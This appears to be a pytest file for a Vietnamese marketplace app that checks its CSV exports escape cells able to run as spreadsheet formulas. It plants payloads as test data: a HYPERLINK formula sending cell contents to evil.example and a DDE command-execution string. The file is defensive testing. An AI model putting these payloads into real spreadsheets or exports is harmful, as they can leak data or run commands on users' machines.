"""No cell of an export can run as a formula: one helper quotes text starting with = + - @ TAB or CR,
and both CSV exports (seller settlement, impact report) go through it."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from app.core.extensions import db
from app.core.spreadsheet import csv_text, safe_cell
from app.payments import services
from tests import factories
from tests.payments import factories as pay_factories
from tests.reports import factories as rf

LIVE = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_could_start_a_formula_is_quoted(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["HTX Rau sạch", "Chị Mai = người bán", "", 0, -5, 12.5, None])
def test_everything_else_is_left_alone(value):
    assert safe_cell(value) == value


def test_the_csv_writer_quotes_headers_and_cells_and_keeps_the_bom():
    text = csv_text(["=A1", "Tên"], [[LIVE, -3], ["@SUM(1)", "bình thường"]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows == [["'=A1", "Tên"], ["'" + LIVE, "-3"], ["'@SUM(1)", "bình thường"]]


def cells(response) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))) for cell in row]


@pytest.fixture
def staff(client, auth):
    user = factories.user(email="canbo@hoi.vn", role="staff")
    db.session.commit()
    auth.login(user.email)
    return user


def test_the_settlement_csv_writes_a_formula_named_seller_as_text(client, staff):
    seller = factories.seller(name=LIVE)
    order = pay_factories.order(prices=(100000,), quantity=1, sellers=[seller])
    services.confirm_transfer_by_hand(number=order.number, amount_vnd=100000, note="seen", actor_id=staff.id)
    for s in order.shipments:
        s.status, s.completed_at = "completed", datetime(2026, 6, 3, 5, tzinfo=UTC)
    order.status = "completed"
    db.session.commit()
    written = cells(client.get("/quan-tri/thanh-toan/nguoi-ban.csv?start=2026-06-01&end=2026-06-30"))
    assert "'" + LIVE in written and LIVE not in written


def test_the_impact_report_csv_writes_formula_names_as_text(client, staff):
    seller = factories.seller(name=LIVE)
    category = factories.category(name_vi="+cmd|' /C calc'!A0")
    variant = factories.product(seller_obj=seller, category_obj=category, price=20000).variants[0]
    outlet = factories.outlet(name="-Cửa hàng 2+3")
    rf.order((variant, 2), outlet_obj=outlet)
    db.session.commit()
    written = cells(client.get("/quan-tri/bao-cao.csv?start=2025-01-01&end=2025-12-31"))
    assert "'" + LIVE in written and LIVE not in written
    assert "'+cmd|' /C calc'!A0" in written and "'-Cửa hàng 2+3" in written
    assert not [c for c in written if c[:1] in ("=", "+", "@", "\t", "\r")]
